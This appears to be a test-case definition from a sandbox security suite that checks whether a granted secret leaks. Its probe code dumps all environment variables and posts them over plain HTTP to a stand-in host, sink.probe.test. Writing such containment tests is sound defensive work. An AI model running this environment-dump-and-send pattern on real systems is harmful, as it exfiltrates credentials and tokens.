ID = 'env.secret-grant'
CATEGORY = 'env-leak'
DESCRIPTION = 'a granted credential: print the environment and send it to the granted host over plain HTTP'
CLAIMS = ('rule:network.mode', 'rule:env')
POLICY = {'network': {'mode': 'allow', 'allow': ['sink.probe.test:{SINK_PORT}'], 'allow_private': ['{CIDR}'], 'nameservers': ['{DNS_HOST}:{DNS_PORT}']}, 'secrets': {'PROBE_GRANT': {'from': 'env:CORRAL_PROBE_SECRET', 'hosts': ['sink.probe.test:{SINK_PORT}']}}}
CODE = r"""
vals = " ".join(f"{k}={v}" for k, v in os.environ.items() if "PROXY" not in k.upper() and k != "PROBE_DATA")
print(vals)
status = via_proxy(f"http://sink.probe.test:{SINK_PORT}/", data=vals.encode())
out("DENIED", f"sent what the sandbox holds (placeholder only): {status}")
"""
CONTROL = {'policy': {'env': {'pass': ['CORRAL_PROBE_SECRET']}}}
CONTAINED = 'only the placeholder is inside; the real value reaches neither the output nor a host over plain HTTP'
